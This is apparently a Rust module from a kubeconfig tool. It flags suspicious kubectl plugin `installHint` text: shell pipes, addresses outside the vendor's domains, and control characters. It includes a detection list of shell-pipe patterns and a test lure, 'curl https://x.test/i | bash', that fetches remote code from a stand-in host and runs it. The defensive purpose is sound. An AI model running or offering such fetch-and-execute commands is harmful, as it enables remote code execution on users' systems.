//! `installHint`, which kubectl prints as it is when a plugin is missing.

use crate::plugins::Plugin;

/// What may be said about an `installHint`.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Hint {
    /// It pipes something to a shell.
    pub pipes_to_shell: bool,
    /// It holds an address outside the domains of the plugin's vendor; for an unknown plugin any address.
    pub has_foreign_address: bool,
    /// A control character other than a line break or tab.
    pub has_control_characters: bool,
}

/// Describes an `installHint`.
pub(in crate::kubeconfig) fn inspect(text: &str, plugin: Option<&Plugin>) -> Hint {
    let lower = text.to_ascii_lowercase();
    let squeezed: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
    let is_vendors =
        |address: &str| plugin.is_some_and(|plugin| plugin.vendor_domains.iter().any(|domain| is_below(address, domain)));
    Hint {
        pipes_to_shell: ["|sh", "|bash", "|sudo", "|iex", "|zsh", "|python"].iter().any(|sign| squeezed.contains(sign)),
        has_foreign_address: addresses(&lower).any(|address| !is_vendors(address)),
        has_control_characters: text.chars().any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t')),
    }
}

/// What stands behind each `http://` and `https://`.
fn addresses(text: &str) -> impl Iterator<Item = &str> {
    text.split("://")
        .skip(1)
        .map(|rest| rest.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '>' | ')')).next().unwrap_or(rest))
}

/// Whether an address lies below `domain`, which may have a first part of a path.
fn is_below(address: &str, domain: &str) -> bool {
    let domain = domain.to_ascii_lowercase();
    let (host, folder) = domain.split_once('/').map_or((domain.as_str(), None), |(host, folder)| (host, Some(folder)));
    let (address_host, path) = address.split_once('/').unwrap_or((address, ""));
    let is_host =
        address_host == host || (folder.is_none() && address_host.strip_suffix(host).is_some_and(|front| front.ends_with('.')));
    is_host && folder.is_none_or(|folder| path.split('/').next() == Some(folder))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plugins;
    use proptest::prelude::*;

    #[test]
    fn vendor_pages_are_not_foreign() {
        let aws = plugins::find("aws", &["eks", "get-token"]);
        assert_eq!(inspect("See https://docs.aws.amazon.com/cli.", aws), Hint::default());
        assert!(inspect("See https://docs.aws.amazon.com.evil.test/", aws).has_foreign_address);
        assert!(inspect("https://evil.test/docs.aws.amazon.com", aws).has_foreign_address);
        assert!(inspect("https://github.com/int128/kubelogin", None).has_foreign_address);
    }

    #[test]
    fn lures_are_noticed() {
        assert!(inspect("curl https://x.test/i | bash", None).pipes_to_shell);
        assert!(inspect("a\u{1b}[31mb", None).has_control_characters);
    }

    proptest! {
        #[test]
        fn no_text_makes_it_panic(text: String) {
            let _ = inspect(&text, None);
        }
    }
}
